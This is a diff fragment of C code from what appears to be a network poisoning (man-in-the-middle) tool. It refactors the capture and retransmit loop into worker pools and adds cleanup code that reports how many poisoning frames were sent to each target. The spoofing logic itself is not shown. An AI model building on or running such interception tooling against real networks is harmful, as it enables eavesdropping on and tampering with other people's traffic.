-		if (!receive_messages(epollfd, ipc,
-					iface, &current_q, freq,
-					h1_mac, h2_mac)){
+		duration = timer_wheel_timeout(&wheel, opts->freq);
+		if (!receive_messages(epollfd, sock, ipc,
+					iface, &current_q, duration, opts->lowlat.enabled,
+					&classifier, batch, &counters, opts, &wheel)){
 			continue; // stop there on failure
 		}
 
+		// frames may wait for credits of the consumers
+		flush_ipc(ipc);
+
 		// to speed thing up, only retransmit is there are frames
 		if (current_q.count > 0) {
-			// Fix the queue and retransmit it
+			// hand the queue over to the workers: the capture loop goes on
+			// while destinations are restored
 			log_debug("Retransmit queued frames\n");
-			memcpy(&old_q, &current_q, sizeof(old_q));
-			init_queue(&current_q);
-			if (!retransmit_all(sock, iface, &old_q, &current_q)) {
-				free_queue(&old_q);
-				continue; // stop there on failure
-			}
-			free_queue(&old_q);
+			retransmit_submit(&pool, &current_q);
 		} else {
 			log_debug("No frames to retransmit\n");
 		}
 	}
 
 	// free elements
+	log_info("Stop poisoning attack\n");
+	if (opts->adaptive) {
+		uint64_t poisoned = 0, reclaimed = 0;
+		for (i = 0; i < targets->count; i++) {
+			poisoned += targets->targets[i].poisoned;
+			reclaimed += targets->targets[i].reclaimed;
+		}
+		log_info("Adaptive cadence: %lu poisoning frames sent, %lu on frames "
+				"from the targets\n", (unsigned long) poisoned,
+				(unsigned long) reclaimed);
+	}
+	if (opts->lowlat.enabled) {
+		report_lowlat(&cadence, &pool);
+	}
+	if (page != NULL) {
+		// last update, for readers of the unlinked file
+		publish_stats(page, &counters, sock, &current_q, ipc, &pool, targets);
+		statpage_close(page, STATS_PATH);
+	}
+	for (i = 0; i < targets->count; i++)
+		targets->targets[i].dest = NULL;
+	free_retransmit_pool(&pool);
+	histo_dump();
 	free_queue(&current_q);
+	free_classifier(&classifier);
+	ipc->flows = NULL;
+	flow_table_free(&flows);
+	for (i = 0; i < targets->count; i++)
+		timer_cancel(&wheel, &targets->targets[i].timer);
+	free(batch);
 
 	if (epoll_ctl(epollfd, EPOLL_CTL_DEL, ipc->sock, &ev) == -1) {
 		perror("Failed to remove the IPC to the epoll");